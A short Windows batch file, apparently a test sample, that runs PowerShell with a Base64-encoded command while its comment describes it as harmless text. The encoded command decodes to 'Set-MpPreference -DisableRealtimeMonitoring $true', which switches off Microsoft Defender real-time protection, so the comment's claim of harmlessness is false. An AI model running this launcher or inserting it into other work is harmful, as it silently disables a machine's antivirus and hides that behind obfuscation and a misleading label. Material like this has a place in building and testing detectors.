@echo off
rem encoded_launcher.cmd - harmless text shaped like a PowerShell launcher with an encoded command.
powershell.exe -NoProfile -NonInteractive -EncodedCommand UwBlAHQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAC0ARABpAHMAYQBiAGwAZQBSAGUAYQBsAHQAaQBtAGUATQBvAG4AaQB0AG8AcgBpAG4AZwAgACQAdAByAHUAZQA=
